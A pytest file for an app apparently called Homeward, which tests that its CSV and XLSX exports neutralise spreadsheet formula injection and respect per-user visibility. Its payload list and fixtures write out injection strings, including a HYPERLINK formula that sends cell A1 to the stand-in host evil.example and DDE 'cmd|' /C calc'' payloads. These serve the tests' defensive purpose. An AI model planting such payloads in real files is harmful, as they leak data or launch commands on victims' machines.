"""Every CSV and XLSX Homeward writes is formula-safe, and an export never shows more than its page."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner

from homeward import exports

FORMULAS = ["=HYPERLINK(\"https://evil.example/?x=\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "\n=1+1", "\0=1", "  =1+1", "\u00a0=1", "\uff1d1+1", "\uff20SUM(A1)"]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_would_start_a_formula_gets_a_leading_apostrophe(text):
    assert exports.safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Коваленко", "a=b", "O'Brien", "", "  plain", 5, -5, 2.5, None, True])
def test_plain_text_and_numbers_pass_unchanged(value):
    assert exports.safe_cell(value) == value


def test_csv_writer_neutralises_every_cell_including_dict_rows():
    buf = io.StringIO()
    exports.csv_writer(buf).writerow(["=1+1", "ok", 3])
    w = exports.csv_dict_writer(buf, ["a", "b"])
    w.writerow({"a": "@x", "b": -1})
    assert list(csv.reader(io.StringIO(buf.getvalue()))) == [["'=1+1", "ok", "3"], ["'@x", "-1"]]


def test_csv_bytes_start_with_a_bom_for_excel():
    data = exports.csv_bytes(["name"], [["Дарина"]])
    assert data.startswith("\ufeff".encode()) and data.decode("utf-8-sig").splitlines() == ["name", "Дарина"]


def test_xlsx_cells_are_text_never_formulas_and_control_characters_do_not_fail_the_export():
    from openpyxl import load_workbook

    data = exports.xlsx_bytes([("Names: a/b", [["name", "n"], ["=HYPERLINK(1)", 4], ["bell\x07", -3]])])
    ws = load_workbook(io.BytesIO(data)).worksheets[0]
    assert ws.title == "Names  a b"
    cells = {c.coordinate: c for row in ws.iter_rows() for c in row}
    assert cells["A2"].value == "'=HYPERLINK(1)" and cells["A2"].data_type == "s"
    assert cells["B2"].value == 4 and cells["B3"].value == -3
    assert cells["A3"].value == "bell\ufffd"
    assert not any(c.data_type == "f" for c in cells.values())


@pytest.mark.django_db
def test_public_figures_csv_neutralises_a_document_title_that_is_a_formula(client, users):
    from homeward.figures import services

    doc = services.add_document(users["mediator"], title='=HYPERLINK("https://evil.example","Open")',
                                text="Ukraine's ombudsman said 214 children had been returned so far this year.",
                                outlet="@Outlet", url="https://example.org/wire")
    claim = doc.claims.get(value=214)
    services.review_claim(users["mediator"], claim, "confirm")
    rows = list(csv.DictReader(io.StringIO(client.get("/stats/figures.csv").content.decode("utf-8-sig"))))
    claimed = [r for r in rows if r["series"] == "claimed"]
    assert [(r["document"], r["outlet"]) for r in claimed] == [
        ("'=HYPERLINK(\"https://evil.example\",\"Open\")", "'@Outlet")]


@pytest.fixture
def forwarded_version(users, parties, settings):
    from homeward.exchange import services
    from tests.factories import UA_ROWS, ua_csv

    settings.EXCHANGE_MATCH_ON_IMPORT = False
    v = services.import_list(users["ua"], party=parties["UA"], title="Sought", filename="l.csv",
                             data=ua_csv(UA_ROWS)).version
    services.forward(users["mediator"], v, [e.pk for e in v.entries.all()])
    return v


@pytest.mark.django_db
@pytest.mark.parametrize("who, sees", [("ua", True), ("mediator", True), ("ru", False)])
def test_report_exports_show_the_file_size_only_to_whom_the_page_shows_it(client, users, forwarded_version, who,
                                                                          sees):
    from openpyxl import load_workbook

    v = forwarded_version
    client.force_login(users[who])
    page = client.get(f"/lists/versions/{v.pk}/report/").content.decode()
    assert ("File size (bytes)" in page) is sees
    wb = load_workbook(io.BytesIO(client.get(f"/lists/versions/{v.pk}/report.xlsx").content))
    evidence = {row[0].value: row[1].value for row in wb.worksheets[2].iter_rows()}
    assert ("File size (bytes)" in evidence) is sees
    if sees:
        assert evidence["File size (bytes)"] == v.size
    # The PDF draws the same summary (its text is in glyph codes of an embedded font, so read it there).
    from homeward.exchange import reports

    assert client.get(f"/lists/versions/{v.pk}/report.pdf").content[:5] == b"%PDF-"
    labels = [k for k, _v in reports._summary(reports.build(users[who], v))]
    assert ("File size (bytes)" in labels) is sees


def test_link_and_dedupe_outputs_neutralise_record_ids(tmp_path: Path):
    from homeward.cli.linkage import dedupe_command

    src = tmp_path / "list.csv"
    rows = [["record_id", "given_name", "surname", "patronymic", "sex", "birth_date", "birth_place"],
            ["=cmd|' /C calc'!A0", "Олександр", "Коваленко", "Петрович", "M", "2014-03-05", "Херсон"],
            ["@SUM(1)", "Олександр", "Коваленко", "Петрович", "M", "2014-03-05", "Херсон"],
            ["x3", "Марія", "Шевченко", "Іванівна", "F", "2012-01-02", "Маріуполь"]]
    with open(src, "w", newline="", encoding="utf-8") as f:
        csv.writer(f).writerows(rows)
    out = tmp_path / "clusters.csv"
    result = CliRunner().invoke(dedupe_command, [str(src), "--out", str(out), "-q"])
    assert result.exit_code == 0, result.output
    ids = {r["record_id"] for r in csv.DictReader(open(out, newline="", encoding="utf-8"))}
    assert {"'=cmd|' /C calc'!A0", "'@SUM(1)", "x3"} <= ids
    assert not any(i.startswith(("=", "@")) for i in ids)
